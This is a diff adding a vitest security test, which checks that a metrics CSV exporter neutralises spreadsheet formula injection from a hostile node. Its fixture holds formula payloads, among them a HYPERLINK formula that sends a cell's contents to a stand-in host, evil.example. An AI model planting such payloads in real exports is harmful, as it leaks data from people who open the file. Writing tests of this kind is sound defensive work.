@@ -1,0 +1,35 @@
+/** Low finding: a node's words become a formula in the spreadsheet of whoever opens an exported file. */
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect, it } from 'vitest';
+import type { Point } from '../../shared/metrics.ts';
+import { writeCsv } from '../run/metrics-export.ts';
+
+it('finding: no cell of metrics.csv is a formula, neither a value nor the name of a field', async () => {
+  const folder = await mkdtemp(join(tmpdir(), 'ringlab-csv-'));
+  const path = join(folder, 'metrics.csv');
+  const line = {
+    v: 1,
+    seq: 0,
+    t: 1,
+    kind: '=1+1',
+    loss: -0.5,
+    message: `=HYPERLINK("http://evil.example?"&A1,"click")`,
+    '@SUM(A1)': 'x',
+    hint: '\t=2',
+  };
+  // A line as a hostile node writes it; the schema of a line lets fields of any name pass.
+  const points = [{ source: 'rank-0', line }] as unknown as Point[];
+  async function* lines(): AsyncGenerator<Point> {
+    for (const point of points) yield await Promise.resolve(point);
+  }
+  await writeCsv(path, lines);
+  const cells = (await readFile(path, 'utf8'))
+    .split('\r\n')
+    .flatMap((row) => row.match(/"(?:[^"]|"")*"|[^,]+/g) ?? [])
+    .map((cell) => cell.replace(/^"/, ''));
+  expect(cells).toContain('-0.5');
+  expect(cells.filter((cell) => /^[=+@\t\r]|^-(?![\d.])/.test(cell))).toEqual([]);
+  await rm(folder, { recursive: true });
+});
